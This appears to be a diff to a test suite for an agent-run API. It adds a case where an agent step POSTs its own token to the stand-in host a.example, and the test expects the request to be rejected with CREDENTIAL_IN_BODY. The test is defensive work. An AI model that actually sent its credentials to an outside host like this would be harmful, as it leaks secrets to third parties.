@@ -54,6 +54,16 @@ describe('requests that do not fit', () => {
       'REQUEST_INVALID',
     ],
     [
+      'a step that sends its own token along',
+      'agent',
+      `/v1/runs/${RUN}/steps`,
+      post({
+        capability: 'network.http-fetch',
+        input: { url: 'https://a.example/', method: 'POST', body: `t=${token}` },
+      }),
+      'CREDENTIAL_IN_BODY',
+    ],
+    [
       'a poisonous key in escapes',
       'agent',
       `/v1/runs/${RUN}/steps`,
